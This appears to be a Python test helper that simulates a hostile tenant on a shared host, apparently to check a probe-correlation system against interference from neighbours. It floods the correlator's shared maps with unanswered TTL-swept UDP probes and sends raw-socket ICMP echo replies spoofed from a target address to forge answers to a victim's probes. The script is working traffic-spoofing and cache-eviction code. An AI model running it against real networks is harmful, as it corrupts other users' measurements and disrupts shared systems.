#!/usr/bin/env python3
"""A tenant with NET_RAW attacking its neighbours' corrections, for SECONDS seconds:
- probes nobody answers (UDP with a traceroute's TTLs, 2..63, to ports the test makes the
  target drop), to fill the correlator's shared maps and push out the others' entries;
- echo replies forged from TARGET to the host's uplink address UPLINK for identifier IDENT and
  a sweep of sequences, posing as the target's answer to the victim's probes.
usage: hostile_neighbour.py TARGET UPLINK IDENT SECONDS"""
import socket
import struct
import sys
import time

target, uplink, ident, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def forged_reply(sequence):
    icmp = struct.pack("!BBHHH", 0, 0, 0, ident, sequence) + bytes(56)
    icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(icmp), 0, 0, 64, socket.IPPROTO_ICMP, 0,
                     socket.inet_aton(target), socket.inet_aton(uplink))
    return ip + icmp


udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
replies = [forged_reply(s) for s in range(1, 301)]
sent = 0
end = time.monotonic() + seconds
while time.monotonic() < end:
    for ttl in range(2, 64):
        udp.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, ttl)
        try:
            udp.sendto(b"x", (target, 40000 + ttl))
        except OSError:
            pass
    for packet in replies[sent % 300:sent % 300 + 60]:
        try:
            raw.sendto(packet, (uplink, 0))
        except OSError:
            pass
    sent += 60
